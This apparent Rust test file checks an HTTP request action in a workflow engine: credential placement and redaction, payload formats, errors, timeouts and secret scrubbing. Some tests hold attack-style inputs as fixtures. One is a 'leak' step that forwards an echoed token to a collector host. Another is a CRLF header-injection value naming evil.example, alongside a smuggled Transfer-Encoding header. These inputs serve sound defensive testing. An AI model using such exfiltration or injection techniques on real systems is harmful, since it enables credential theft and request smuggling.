//! HTTP `SEND_REQUEST` against the generic fake: each setup type puts its credential where it
//! says (and the fake only answers when it is there), payloads go out as JSON, a form or XML, and
//! a non-2xx answer is an error; the runner scrubs a secret the provider echoes back.

use flowvault_core::ExecutionStatus;
use flowvault_core::{AppId, validate_create, validate_flow_create};
use flowvault_engine::{RunInput, RunLimits};
use flowvault_testkit::providers::upstream::FakeUpstream;
use serde_json::{Value, json};

use super::harness::Harness;
use crate::support::World;

const HOST: &str = "upstream.test";

fn harness(fake: &FakeUpstream) -> Harness {
    let mut h = Harness::new();
    h.host(HOST, fake.router());
    h
}

fn http(setup: Value) -> Option<(AppId, Value)> {
    Some((AppId::Http, setup))
}

/// Runs one request that must succeed; its output.
async fn ok(
    h: &Harness,
    params: Value,
    setup: Option<(AppId, Value)>,
    token: Option<&str>,
) -> Value {
    h.run("HTTP", "SEND_REQUEST", params, setup, token).await.unwrap_or_else(|e| panic!("{e}"))
}

#[tokio::test]
async fn bearer_setup_sends_the_token() {
    let fake = FakeUpstream::new();
    let token = "bearer-token-0001";
    fake.require_bearer(token);
    let h = harness(&fake);
    let params = json!({"url": "https://upstream.test/v1/things?x=1", "params": {"page": 2}});
    let out = ok(&h, params, http(json!({"type": "BEARER", "token": token})), None).await;
    assert_eq!((&out["status"], &out["success"]), (&json!(200), &json!(true)));
    assert_eq!(out["body"]["method"], "GET");
    assert_eq!(out["body"]["path"], "/v1/things?x=1&page=2");
    assert!(out["body"]["headers"].get("authorization").is_none(), "not echoed");
    assert!(!out.to_string().contains(token));
    let got = fake.log().last().unwrap_or_else(|| panic!("nothing received"));
    assert_eq!((got.method.as_str(), got.path.as_str()), ("GET", "/v1/things?x=1&page=2"));

    // Another token is refused, and the refusal is an error.
    let params = json!({"url": "https://upstream.test/v1/things"});
    let err = h
        .run(
            "HTTP",
            "SEND_REQUEST",
            params,
            http(json!({"type": "BEARER", "token": "other-0001"})),
            None,
        )
        .await
        .err()
        .unwrap_or_else(|| panic!("a wrong token was accepted"));
    assert_eq!(err.message, "HTTP answered 401: unauthorized: a valid bearer token is required");
    assert_eq!(err.status, Some(401));
}

#[tokio::test]
async fn basic_auth_setup_sends_basic_credentials() {
    let fake = FakeUpstream::new();
    fake.require_basic("svc-user", "svc-password-0001");
    let setup =
        json!({"type": "BASIC_AUTH", "username": "svc-user", "password": "svc-password-0001"});
    let params = json!({"url": "https://upstream.test/basic", "method": "delete"});
    let out = ok(&harness(&fake), params, http(setup), None).await;
    assert_eq!(out["status"], 200);
    assert_eq!(out["body"]["method"], "DELETE");
    assert!(!out.to_string().contains("svc-password-0001"));
}

#[tokio::test]
async fn api_key_setup_sends_the_key_in_a_header() {
    let fake = FakeUpstream::new();
    fake.require_api_key_header("X-Api-Key", "api-key-value-0001");
    let setup = json!({
        "type": "API_KEY",
        "name": "X-Api-Key",
        "value": "api-key-value-0001",
        "in": "HEADER",
    });
    let params = json!({"url": "https://upstream.test/keyed", "headers": {"x-trace": "t-1"}});
    let out = ok(&harness(&fake), params, http(setup), None).await;
    assert_eq!(out["status"], 200);
    assert_eq!(out["body"]["headers"]["x-trace"], "t-1");
    assert!(out["body"]["headers"].get("x-api-key").is_none());
    assert!(!out.to_string().contains("api-key-value-0001"));
}

#[tokio::test]
async fn api_key_setup_sends_the_key_in_the_query() {
    let fake = FakeUpstream::new();
    fake.require_api_key_query("api_key", "query-key-0001");
    let setup =
        json!({"type": "API_KEY", "name": "api_key", "value": "query-key-0001", "in": "QUERY"});
    let params = json!({"url": "https://upstream.test/search?q=ada"});
    let out = ok(&harness(&fake), params, http(setup), None).await;
    assert_eq!(out["status"], 200);
    let got = fake.log().last().unwrap_or_else(|| panic!("nothing received"));
    // Accepted, so the key was there; the fake logs it masked.
    assert_eq!(got.path, "/search?q=ada&api_key=%5Bredacted%5D");
    assert!(!out.to_string().contains("query-key-0001"));
}

#[tokio::test]
async fn client_credentials_setup_sends_the_access_token() {
    let fake = FakeUpstream::new();
    fake.require_bearer("cc-access-token-0001");
    let setup = json!({
        "type": "OAUTH_CLIENT_CREDENTIALS",
        "token_endpoint": "https://idp.test/token",
        "client_id": "service",
        "client_secret": "service-secret",
    });
    let params =
        json!({"url": "https://upstream.test/orders", "method": "POST", "payload": {"sku": "A-1"}});
    let out = ok(&harness(&fake), params, http(setup), Some("cc-access-token-0001")).await;
    assert_eq!(out["status"], 200);
    assert_eq!(out["body"]["body"], json!({"sku": "A-1"}));
}

#[tokio::test]
async fn no_connection_sends_no_credentials_but_a_basic_param_is_used() {
    let fake = FakeUpstream::new();
    let h = harness(&fake);
    let out = ok(&h, json!({"url": "https://upstream.test/open"}), None, None).await;
    assert_eq!(out["status"], 200);

    fake.require_basic("param-user", "param-pass");
    let params = json!({
        "url": "https://upstream.test/open",
        "basic": {"username": "param-user", "password": "param-pass"},
    });
    assert_eq!(ok(&h, params, None, None).await["status"], 200);
    let err =
        h.run("HTTP", "SEND_REQUEST", json!({"url": "https://upstream.test/open"}), None, None);
    assert_eq!(err.await.err().and_then(|e| e.status), Some(401));
}

#[tokio::test]
async fn payloads_go_out_as_json_form_or_xml() {
    let fake = FakeUpstream::new();
    let h = harness(&fake);
    let url = "https://upstream.test/submit";
    let cases = [
        (json!({"a": 1, "b": [true]}), "JSON", "application/json", json!({"a": 1, "b": [true]})),
        (
            json!({"a": 1, "b": "x y"}),
            "FORM",
            "application/x-www-form-urlencoded",
            json!({"a": "1", "b": "x y"}),
        ),
        (json!("<a>1</a>"), "XML", "application/xml", json!("<a>1</a>")),
        (json!("{\"raw\":true}"), "JSON", "application/json", json!({"raw": true})),
    ];
    for (payload, content_type, sent_as, received) in cases {
        let params =
            json!({"url": url, "method": "PUT", "payload": payload, "content_type": content_type});
        let out = ok(&h, params, None, None).await;
        let got = fake.log().last().unwrap_or_else(|| panic!("nothing received"));
        assert_eq!(got.method, "PUT");
        assert_eq!(got.content_type.as_deref(), Some(sent_as), "{content_type}");
        assert_eq!(got.body, received, "{content_type}");
        assert_eq!(out["body"]["body"], received);
    }
    let params = json!({"url": url, "payload": {"a": 1}, "content_type": "XML"});
    let err = h.run("HTTP", "SEND_REQUEST", params, None, None).await.err();
    assert_eq!(err.map(|e| e.message).as_deref(), Some("an XML payload must be a string"));
}

#[tokio::test]
async fn a_non_2xx_answer_is_an_error_with_the_providers_message() {
    let fake = FakeUpstream::new();
    let params = json!({"url": "https://upstream.test/error?status=422&echo=bad%20sku"});
    let err = harness(&fake)
        .run("HTTP", "SEND_REQUEST", params, None, None)
        .await
        .err()
        .unwrap_or_else(|| panic!("a 422 was a success"));
    assert_eq!(err.status, Some(422));
    assert_eq!(err.message, "HTTP answered 422: upstream rejected the request: bad sku");
}

#[tokio::test(start_paused = true)]
async fn a_slow_answer_times_out() {
    let fake = FakeUpstream::new();
    let params = json!({"url": "https://upstream.test/slow?ms=60000"});
    let err = harness(&fake).run("HTTP", "SEND_REQUEST", params, None, None).await.err();
    assert_eq!(err.map(|e| e.message).as_deref(), Some("the request timed out"));
    assert_eq!(fake.log().all().len(), 1, "it arrived, and was too slow");
}

/// The action's own error does hold what the provider echoed: the runner must scrub the
/// connection's secret from the execution record.
#[tokio::test(start_paused = true)]
async fn the_runner_scrubs_a_secret_the_provider_echoes() {
    let w = World::new().await;
    let fake = FakeUpstream::new();
    w.transport.route(HOST, fake.router());
    let secret = "echoed-secret-token-0001";
    let body =
        json!({"name": "Upstream", "app_id": "HTTP", "setup": {"type": "BEARER", "token": secret}});
    let new = validate_create(&body).unwrap_or_else(|e| panic!("{e}"));
    let id = w.vault.create_connection(&w.tenant, new).await.unwrap_or_else(|e| panic!("{e}")).id;
    let flow = json!({"name": "Echo", "actions": [{
        "id": "call",
        "type": "HTTP",
        "action": "SEND_REQUEST",
        "params": {
            "connection_id": id.to_string(),
            "url": format!("https://{HOST}/error?echo=Bearer%20{secret}"),
        },
    }]});
    let new = validate_flow_create(&flow).unwrap_or_else(|e| panic!("{e}"));
    let flow = w.vault.create_flow(&w.tenant, new).await.unwrap_or_else(|e| panic!("{e}"));
    let engine = w.engine("a");
    let outcome =
        engine.run_flow(&w.tenant, &flow, RunInput::default(), RunLimits::default()).await;

    assert_eq!(outcome.status, ExecutionStatus::Failed);
    let record = serde_json::to_string(&outcome.record).unwrap_or_else(|e| panic!("{e}"));
    assert!(!record.contains(secret), "{record}");
    let error = outcome.record.actions[0].error.as_ref().map(|e| e.message.clone());
    assert_eq!(
        error.as_deref(),
        Some("HTTP answered 400: upstream rejected the request: Bearer [redacted]")
    );
}

/// An upstream that echoes the connection's token back disguised (upper case, base64,
/// base64url, percent-encoded): the disguises are scrubbed before the output is recorded *and*
/// before a later action's template can read it and send it elsewhere.
#[tokio::test]
async fn transformed_echoes_are_scrubbed_before_later_actions_read_them() {
    let w = World::new().await;
    let fake = FakeUpstream::new();
    fake.echo_credentials(true);
    w.transport.route(HOST, fake.router());
    let collector = FakeUpstream::new();
    w.transport.route("collector.test", collector.router());
    let secret = "At-0K.mirrored/s3cret+t0ken";
    let body =
        json!({"name": "Upstream", "app_id": "HTTP", "setup": {"type": "BEARER", "token": secret}});
    let new = validate_create(&body).unwrap_or_else(|e| panic!("{e}"));
    let id = w.vault.create_connection(&w.tenant, new).await.unwrap_or_else(|e| panic!("{e}")).id;
    let flow = json!({"name": "Mirror", "actions": [
        {"id": "mirror", "type": "HTTP", "action": "SEND_REQUEST",
         "params": {"connection_id": id.to_string(), "url": format!("https://{HOST}/mirror")}},
        {"id": "leak", "type": "HTTP", "action": "SEND_REQUEST",
         "params": {"url": "https://collector.test/collect", "method": "POST",
                    "payload": {"got": "{{actions.mirror.body}}"}}},
        {"id": "done", "type": "FLOW", "action": "RETURN_JSON",
         "params": {"payload": {"mirror": "{{actions.mirror.body}}"}}},
    ]});
    let new = validate_flow_create(&flow).unwrap_or_else(|e| panic!("{e}"));
    let flow = w.vault.create_flow(&w.tenant, new).await.unwrap_or_else(|e| panic!("{e}"));
    let engine = w.engine("a");
    let outcome =
        engine.run_flow(&w.tenant, &flow, RunInput::default(), RunLimits::default()).await;
    assert_eq!(outcome.status, ExecutionStatus::Completed, "{:?}", outcome.record.error);

    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    let disguises = [
        secret.to_owned(),
        secret.to_uppercase(),
        secret.to_lowercase(),
        STANDARD.encode(secret),
        URL_SAFE_NO_PAD.encode(format!("token={secret}")),
        "s3cret".to_owned(),
        "S3CRET".to_owned(),
    ];
    let record = serde_json::to_string(&outcome.record).unwrap_or_else(|e| panic!("{e}"));
    let sent = format!("{:?}", collector.log().all());
    assert!(sent.contains("collect"), "the second action ran: {sent}");
    for d in &disguises {
        assert!(!record.contains(d.as_str()), "{d} in the record: {record}");
        assert!(!sent.contains(d.as_str()), "{d} was sent on by a later action: {sent}");
    }
    // Percent-encoded with lower-case hex, too.
    assert!(!record.to_lowercase().contains("%2fs3cret"), "{record}");
    assert!(!sent.to_lowercase().contains("%2fs3cret"), "{sent}");
}

/// Rendered headers meet the rules saved ones do: a template can't smuggle a line break into a
/// credentialed request, nor a framing header into any.
#[tokio::test]
async fn rendered_headers_are_checked_like_saved_ones() {
    let w = World::new().await;
    let fake = FakeUpstream::new();
    w.transport.route(HOST, fake.router());
    let body = json!({"name": "Upstream", "app_id": "HTTP", "setup": {"type": "BEARER", "token": "header-test-token"}});
    let new = validate_create(&body).unwrap_or_else(|e| panic!("{e}"));
    let id = w.vault.create_connection(&w.tenant, new).await.unwrap_or_else(|e| panic!("{e}")).id;
    let flow = json!({"name": "Headers", "actions": [
        {"id": "note", "type": "HTTP", "action": "SEND_REQUEST", "allow_failure": true,
         "params": {"connection_id": id.to_string(), "url": format!("https://{HOST}/x"),
                    "headers": {"X-Note": "{{fields.note}}"}}},
        {"id": "free", "type": "HTTP", "action": "SEND_REQUEST", "allow_failure": true,
         "params": {"url": format!("https://{HOST}/y"), "headers": "{{fields.headers}}"}},
    ]});
    let new = validate_flow_create(&flow).unwrap_or_else(|e| panic!("{e}"));
    let flow = w.vault.create_flow(&w.tenant, new).await.unwrap_or_else(|e| panic!("{e}"));
    let fields =
        json!({"note": "a\r\nHost: evil.example", "headers": {"Transfer-Encoding": "chunked"}});
    let input = RunInput { fields, context: json!({}) };
    let outcome = w.engine("a").run_flow(&w.tenant, &flow, input, RunLimits::default()).await;
    let errors: Vec<String> = outcome
        .record
        .actions
        .iter()
        .map(|a| a.error.as_ref().map(|e| e.message.clone()).unwrap_or_default())
        .collect();
    assert!(errors[0].contains("X-Note") && errors[0].contains("line break"), "{errors:?}");
    assert!(
        errors[1].contains("Transfer-Encoding") && errors[1].contains("hop-by-hop"),
        "{errors:?}"
    );
    assert!(fake.log().all().is_empty(), "nothing was sent");
}
